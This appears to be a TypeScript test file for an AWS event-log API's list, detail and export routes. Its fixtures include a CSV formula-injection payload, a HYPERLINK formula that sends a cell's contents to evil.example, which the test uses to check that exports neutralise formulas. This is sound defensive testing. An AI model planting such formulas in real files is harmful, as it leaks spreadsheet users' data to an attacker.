import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { NextRequest } from "next/server";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { PrismaClient } from "@/lib/generated/prisma/client";
import { createMigratedDatabase, type TestDatabase } from "@/tests/support/databases";
import { insertEvents, makeEvent, type TestEvent } from "@/tests/support/factories";

// The events API through its route handlers, against a real database holding events stored the way
// ingestion stores them (typed columns, raw JSON in compressed chunks). Expected answers are computed
// here, from the inserted events, independently of the SQL under test.

type Handler = (req: NextRequest, context: { params: Promise<Record<string, string>> }) => Promise<Response>;

const listKeys = [
  "id",
  "eventId",
  "eventTime",
  "eventSource",
  "eventName",
  "awsRegion",
  "sourceIp",
  "userAgent",
  "errorCode",
  "principalArn",
  "principalType",
  "accountId",
  "accessKeyId",
  "credentialType",
].sort();
const detailKeys = [
  ...listKeys,
  "errorMessage",
  "recipientAccountId",
  "readOnly",
  "eventType",
  "requestId",
  "uploadId",
  "ingestedAt",
  "raw",
  "rawText",
].sort();

let database: TestDatabase;
let db: PrismaClient;
let routes: { list: Handler; detail: Handler; exportFile: Handler };
let exports: typeof import("@/lib/server/event-export");
let cookie: string;
let uploadId: string;
/** The inserted events with their row ids, newest first (eventTime desc, id desc), as the API orders them. */
let stored: (Omit<TestEvent, "id"> & { id: string })[];

const principals = [
  "arn:aws:iam::111122223333:user/leaked",
  "arn:aws:sts::111122223333:assumed-role/DataScience/session-0123456789abcdef",
  "arn:aws:iam::444455556666:user/BedrockAPIKey-x1y2",
];
const ips = ["198.51.100.7", "203.0.113.20", "bedrock.amazonaws.com"];
const keys = ["AKIAIOSFODNN7EXAMPLE", "ASIAXEXAMPLE00000001", null];
const names = ["ListFoundationModels", "ListModels", "GetCallerIdentity", "DescribeTrainingJob"];
const sources = ["bedrock.amazonaws.com", "sagemaker.amazonaws.com", "sts.amazonaws.com"];
const errors = ["AccessDeniedException", "AccessDenied", null];
const credentials = ["long_term_key", "temporary", "bedrock_api_key", "console_session"] as const;
const regions = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-northeast-1", "sa-east-1", "ca-central-1"];
/** Free text for `q`: LIKE's wildcards and escape character as plain text, and near misses without them. */
const messages: Record<number, string> = {
  20: "Denied Bedrock for 1000 calls",
  21: "Denied_Bedrock for 100% of calls",
  22: "DeniedXBedrock",
};

function pick<T>(list: readonly T[], i: number): T {
  return list[i % list.length] as T;
}

function get(handler: Handler, url: string, params: Record<string, string> = {}, headers = { cookie }) {
  return handler(new NextRequest(new URL(url, "http://localhost"), { headers }), { params: Promise.resolve(params) });
}

async function getJson(handler: Handler, url: string, params: Record<string, string> = {}) {
  const response = await get(handler, url, params);
  return { status: response.status, body: await response.json() };
}

beforeAll(async () => {
  database = await createMigratedDatabase();
  // The route handlers read the database from DATABASE_URL, which lib/env parses once at import:
  // set it, then load fresh copies of the modules that depend on it.
  vi.stubEnv("DATABASE_URL", database.url);
  vi.resetModules();
  const [client, sessions, users, list, detail, exportFile] = await Promise.all([
    import("@/lib/db/client"),
    import("@/lib/auth/sessions"),
    import("@/tests/support/factories"),
    import("@/app/api/v1/events/route"),
    import("@/app/api/v1/events/[id]/route"),
    import("@/app/api/v1/events/export/route"),
  ]);
  exports = await import("@/lib/server/event-export");
  routes = { list: list.GET as Handler, detail: detail.GET as Handler, exportFile: exportFile.GET as Handler };
  db = client.getDb();

  const viewer = await users.makeUser(db, { role: "viewer" });
  const session = await sessions.createSession(db, {
    userId: viewer.id,
    policy: { idleMs: 3_600_000, maxMs: 86_400_000 },
  });
  cookie = `${sessions.SESSION_COOKIE}=${session.token}`;

  const upload = await db.upload.create({
    data: { filename: "events.json.gz", storedPath: "uploads/events.json.gz", bytesTotal: 1n },
    select: { id: true },
  });
  uploadId = upload.id;

  // 130 events over ~5 days, several sharing one timestamp so the id tie-break matters, with every
  // filterable column varying on its own cycle.
  const start = Date.parse("2026-01-10T00:00:00Z");
  const events = Array.from({ length: 130 }, (_, i) =>
    makeEvent({
      eventTime: new Date(start + Math.floor(i / 3) * 3_600_000),
      principalArn: pick(principals, i),
      sourceIp: pick(ips, i),
      accessKeyId: pick(keys, i),
      eventName: pick(names, i),
      eventSource: pick(sources, i),
      errorCode: pick(errors, i),
      credentialType: pick(credentials, i),
      awsRegion: pick(regions, i),
      uploadId: i % 5 === 0 ? upload.id : null,
      userAgent:
        i === 7
          ? '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
          : i === 23
            ? "agent\\with\\backslashes"
            : pick(["aws-cli/2.15.0", "Boto3"], i),
      ...(messages[i] ? { errorMessage: messages[i] } : {}),
      principalName: i === 11 ? "@SUM(1+1)" : "name",
    }),
  );
  await insertEvents(db, events, { chunkSize: 37 });
  const ids = new Map(
    (await db.event.findMany({ select: { id: true, eventId: true } })).map((row) => [row.eventId, String(row.id)]),
  );
  stored = events
    .map((event) => ({ ...event, id: ids.get(event.eventId) as string }))
    .sort((a, b) => {
      const byTime = new Date(b.eventTime).getTime() - new Date(a.eventTime).getTime();
      return byTime || Number(BigInt(b.id) - BigInt(a.id));
    });
});

afterAll(async () => {
  await db?.$disconnect();
  await database?.drop();
  vi.unstubAllEnvs();
});

describe("GET /api/v1/events", () => {
  it("pages newest first with the total, each event exactly the documented fields", async () => {
    const first = await getJson(routes.list, "/api/v1/events?pageSize=50");
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({ total: 130, page: 1, pageSize: 50 });
    expect(first.body.data).toHaveLength(50);
    for (const row of first.body.data) expect(Object.keys(row).sort()).toEqual(listKeys);
    expect(typeof first.body.data[0].id).toBe("string");
    expect(first.body.data.map((row: { id: string }) => row.id)).toEqual(stored.slice(0, 50).map((e) => e.id));

    const last = await getJson(routes.list, "/api/v1/events?pageSize=50&page=3");
    expect(last.body.total).toBe(130);
    expect(last.body.data.map((row: { id: string }) => row.id)).toEqual(stored.slice(100).map((e) => e.id));
  });

  it("filters by exact match on each indexed column, trimming the input, and by credential type and upload", async () => {
    const cases: [string, (e: (typeof stored)[number]) => boolean][] = [
      [`principal=${encodeURIComponent(` ${principals[1]} `)}`, (e) => e.principalArn === principals[1]],
      ["ip=203.0.113.20", (e) => e.sourceIp === "203.0.113.20"],
      ["accessKeyId=AKIAIOSFODNN7EXAMPLE", (e) => e.accessKeyId === "AKIAIOSFODNN7EXAMPLE"],
      ["eventName=ListModels", (e) => e.eventName === "ListModels"],
      ["eventSource=sts.amazonaws.com", (e) => e.eventSource === "sts.amazonaws.com"],
      ["errorCode=AccessDenied", (e) => e.errorCode === "AccessDenied"],
      ["credentialType=bedrock_api_key", (e) => e.credentialType === "bedrock_api_key"],
      [`upload=${uploadId}`, (e) => e.uploadId === uploadId],
      // Partial values do not match: the filters are exact.
      ["principal=leaked", () => false],
      // Blank values are no filter at all.
      ["principal=&ip=%20", () => true],
      [
        "ip=198.51.100.7&errorCode=AccessDeniedException&eventSource=bedrock.amazonaws.com",
        (e) =>
          e.sourceIp === "198.51.100.7" &&
          e.errorCode === "AccessDeniedException" &&
          e.eventSource === "bedrock.amazonaws.com",
      ],
    ];
    for (const [search, matches] of cases) {
      const expected = stored.filter(matches);
      const { status, body } = await getJson(routes.list, `/api/v1/events?${search}&pageSize=500`);
      expect(status, search).toBe(200);
      expect(body.total, search).toBe(expected.length);
      expect(
        body.data.map((row: { id: string }) => row.id),
        search,
      ).toEqual(expected.map((e) => e.id));
    }
  });

  it("filters by exact region, like the other exact filters", async () => {
    const cases: [string, (e: (typeof stored)[number]) => boolean, number][] = [
      ["awsRegion=eu-west-1", (e) => e.awsRegion === "eu-west-1", 19],
      [
        "awsRegion=%20sa-east-1%20&credentialType=temporary",
        (e) => e.awsRegion === "sa-east-1" && e.credentialType === "temporary",
        5,
      ],
      // Exact: neither another case nor a part matches.
      ["awsRegion=EU-WEST-1", () => false, 0],
      ["awsRegion=eu-west", () => false, 0],
    ];
    for (const [search, matches, count] of cases) {
      const expected = stored.filter(matches);
      expect(expected, search).toHaveLength(count);
      const { status, body } = await getJson(routes.list, `/api/v1/events?${search}&pageSize=500`);
      expect(status, search).toBe(200);
      expect(
        body.data.map((row: { id: string }) => row.id),
        search,
      ).toEqual(expected.map((e) => e.id));
    }
  });

  it("searches free text in any case: part of a name, source, error or user agent, or a whole event or request id", async () => {
    const event = stored[42] as (typeof stored)[number];
    /** What `q` should match, computed here rather than in SQL. */
    const matches = (q: string) => (e: (typeof stored)[number]) => {
      const needle = q.trim().toLowerCase();
      const parts = [e.eventName, e.eventSource, e.errorCode, e.errorMessage, e.userAgent];
      const wholes = [e.eventId, e.requestId];
      return (
        parts.some((value) => value?.toLowerCase().includes(needle)) ||
        wholes.some((value) => value?.toLowerCase() === needle)
      );
    };
    const cases: [string, number][] = [
      ["listmodels", 33],
      [" SAGEMAKER ", 43],
      ["accessdenied", 87],
      ["boto", 63],
      [event.eventId.toUpperCase(), 1],
      [event.requestId as string, 1],
      // Part of an id is not enough: ids match whole.
      [event.eventId.slice(0, 13), 0],
      // LIKE's metacharacters are plain characters.
      ["Denied_Bedrock", 1],
      ["100%", 1],
      ["%", 1],
      ["_", 1],
      ["\\", 1],
      ["Denied%Bedrock", 0],
    ];
    for (const [q, count] of cases) {
      const expected = stored.filter(matches(q));
      expect(expected, q).toHaveLength(count);
      const { status, body } = await getJson(routes.list, `/api/v1/events?q=${encodeURIComponent(q)}&pageSize=500`);
      expect(status, q).toBe(200);
      expect(body.total, q).toBe(count);
      expect(
        body.data.map((row: { id: string }) => row.id),
        q,
      ).toEqual(expected.map((e) => e.id));
    }
    // With other filters, all apply.
    const { body } = await getJson(routes.list, "/api/v1/events?q=denied&credentialType=temporary&pageSize=500");
    const expected = stored.filter((e) => matches("denied")(e) && e.credentialType === "temporary");
    expect(body.data.map((row: { id: string }) => row.id)).toEqual(expected.map((e) => e.id));
  });

  it("filters by an inclusive time range, and pages a filtered result with its own total", async () => {
    const from = new Date("2026-01-10T12:00:00Z");
    const to = new Date("2026-01-11T12:00:00Z");
    const expected = stored.filter((e) => new Date(e.eventTime) >= from && new Date(e.eventTime) <= to);
    // Events sit exactly on both bounds.
    for (const bound of [from, to])
      expect(expected.some((e) => new Date(e.eventTime).getTime() === bound.getTime())).toBe(true);
    const url = `/api/v1/events?from=${from.toISOString()}&to=${to.toISOString()}&pageSize=10&page=2`;
    const { body } = await getJson(routes.list, url);
    expect(body.total).toBe(expected.length);
    expect(body.data.map((row: { id: string }) => row.id)).toEqual(expected.slice(10, 20).map((e) => e.id));
  });

  it("refuses bad filters with 400 and the error envelope", async () => {
    for (const search of [
      "credentialType=root",
      "upload=not-a-uuid",
      "from=2026-02-01&to=2026-01-01",
      "from=soon",
      `q=${"x".repeat(201)}`,
    ]) {
      const { status, body } = await getJson(routes.list, `/api/v1/events?${search}`);
      expect(status, search).toBe(400);
      expect(body.error.code, search).toBe("INVALID_INPUT");
    }
  });

  it("refuses a NUL byte in any text filter with a 400 that names the filter (not a database error)", async () => {
    for (const field of ["q", "principal", "ip", "accessKeyId", "eventName", "eventSource", "errorCode", "awsRegion"]) {
      for (const route of [routes.list, routes.exportFile]) {
        const { status, body } = await getJson(route, `/api/v1/events?${field}=Access%00Denied`);
        expect(status, field).toBe(400);
        expect(body.error.code, field).toBe("INVALID_INPUT");
        expect(body.error.message, field).toContain(`${field}: must not contain a NUL byte`);
      }
    }
  });

  it("refuses a date PostgreSQL cannot store with a 400 naming the field and the range, list and export alike (issue 15, finding 5)", async () => {
    for (const search of [
      "from=0000-01-01",
      "from=-001000-01-01T00:00:00Z",
      "to=-271821-04-20T00:00:00Z",
      "to=%2B275760-09-13T00:00:00Z",
      "from=1969-12-31T23:59:59Z",
    ]) {
      for (const route of [routes.list, routes.exportFile]) {
        const { status, body } = await getJson(route, `/api/v1/events?${search}`);
        expect(status, search).toBe(400);
        expect(body.error.message, search).toMatch(/(from|to): must be a date between 1970-01-01 and 9999-12-31/);
      }
    }
    const edge = await getJson(routes.list, "/api/v1/events?from=1970-01-01T00:00:00Z&to=9999-12-31T23:59:59Z");
    expect(edge.status).toBe(200);
    expect(edge.body.total).toBe(stored.length);
  });

  it("answers 401 to a caller who is not signed in", async () => {
    const response = await get(routes.list, "/api/v1/events", {}, { cookie: "" });
    expect(response.status).toBe(401);
  });
});

describe("GET /api/v1/events/[id]", () => {
  it("answers the list fields plus the detail fields and the stored raw event", async () => {
    const event = stored[42] as (typeof stored)[number];
    const { status, body } = await getJson(routes.detail, `/api/v1/events/${event.id}`, { id: event.id });
    expect(status).toBe(200);
    expect(Object.keys(body).sort()).toEqual(detailKeys);
    expect(body).toMatchObject({
      id: event.id,
      eventId: event.eventId,
      principalArn: event.principalArn,
      errorMessage: event.errorMessage,
      requestId: event.requestId,
      uploadId: event.uploadId ?? null,
    });
    expect(body.raw).toEqual(event.raw);
    // The raw event keeps its own key order.
    expect(Object.keys(body.raw)).toEqual(Object.keys(event.raw));
  });

  it("shows a record nested 100,000 levels (stored before ingest refused them) as text, not a 500 (issue 15, finding 6)", async () => {
    const { encodeRawChunk } = await import("@/lib/events/raw-chunks");
    const { makeEvent } = await import("@/tests/support/factories");
    const text = `{"eventID":"deep","requestParameters":${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}}`;
    const chunk = await db.rawChunk.create({
      data: { eventCount: 1, data: new Uint8Array(await encodeRawChunk([text])) },
      select: { id: true },
    });
    const { raw: _raw, ...columns } = makeEvent({ eventId: randomUUID() });
    const row = await db.event.create({
      data: { ...columns, rawChunkId: chunk.id, rawIndex: 0 },
      select: { id: true },
    });
    try {
      const id = row.id.toString();
      const { status, body } = await getJson(routes.detail, `/api/v1/events/${id}`, { id });
      expect(status).toBe(200);
      expect(body.raw).toBeNull();
      expect(body.rawText).toBe(text.slice(0, 256 * 1024));
    } finally {
      await db.event.delete({ where: { id: row.id } });
    }
  });

  it("answers 404 with the envelope for an unknown id, a non-numeric id and an id beyond bigint", async () => {
    for (const id of ["999999999", randomUUID(), "12abc", "99999999999999999999"]) {
      const { status, body } = await getJson(routes.detail, `/api/v1/events/${id}`, { id });
      expect(status, id).toBe(404);
      expect(body.error.code, id).toBe("NOT_FOUND");
      expect(body.error.message, id).toBe(`No event with id ${id}.`);
    }
  });
});

describe("GET /api/v1/events/export", () => {
  it("streams a CSV attachment of the filtered events, newest first, with formulas neutralised", async () => {
    const response = await get(routes.exportFile, "/api/v1/events/export?eventSource=sagemaker.amazonaws.com");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="trailtriage-events-.+\.csv"$/);
    const [header, ...rows] = parse(await response.text()) as string[][];
    expect(header?.slice(0, 3)).toEqual(["id", "event_time", "event_id"]);
    const expected = stored.filter((e) => e.eventSource === "sagemaker.amazonaws.com");
    expect(rows.map((row) => row[0])).toEqual(expected.map((e) => e.id));

    const userAgent = header?.indexOf("user_agent") ?? -1;
    const evil = rows.find((row) => row[userAgent]?.includes("HYPERLINK"));
    expect(evil?.[userAgent]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("streams JSON Lines of the stored raw events, one per matching event", async () => {
    const response = await get(routes.exportFile, `/api/v1/events/export?format=jsonl&ip=203.0.113.20`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toMatch(/\.jsonl"$/);
    const text = await response.text();
    expect(text.endsWith("\n")).toBe(true);
    const lines = text.trimEnd().split("\n");
    const expected = stored.filter((e) => e.sourceIp === "203.0.113.20");
    expect(lines).toHaveLength(expected.length);
    const parsed = lines.map((line) => JSON.parse(line));
    expect(new Set(parsed.map((event) => event.eventID))).toEqual(new Set(expected.map((e) => e.eventId)));
    expect(parsed.find((event) => event.eventID === expected[0]?.eventId)).toEqual(expected[0]?.raw);
  });

  it("reads in batches that never skip or repeat an event, even when a batch ends inside a tie", async () => {
    const rows: string[] = [];
    for await (const row of exports.eventRowsForExport({}, 7)) rows.push(String(row.id));
    expect(rows).toEqual(stored.map((e) => e.id));

    const lines: string[] = [];
    for await (const line of exports.rawEventsForExport({ upload: uploadId }, 4)) lines.push(line);
    const expected = stored.filter((e) => e.uploadId === uploadId);
    expect(lines.map((line) => JSON.parse(line).eventID).sort()).toEqual(expected.map((e) => e.eventId).sort());
  });

  it("takes the region and free text filters", async () => {
    const response = await get(routes.exportFile, "/api/v1/events/export?q=denied_bedrock&awsRegion=us-east-1");
    const [, ...rows] = parse(await response.text()) as string[][];
    const expected = stored.filter((e) => e.errorMessage?.startsWith("Denied_Bedrock") && e.awsRegion === "us-east-1");
    expect(expected).toHaveLength(1);
    expect(rows.map((row) => row[0])).toEqual(expected.map((e) => e.id));

    const lines = await get(routes.exportFile, "/api/v1/events/export?format=jsonl&q=%25");
    const events = (await lines.text())
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(events.map((e) => e.eventID)).toEqual(expected.map((e) => e.eventId));
  });

  it("refuses an unknown format", async () => {
    const response = await get(routes.exportFile, "/api/v1/events/export?format=xlsx");
    expect(response.status).toBe(400);
  });
});
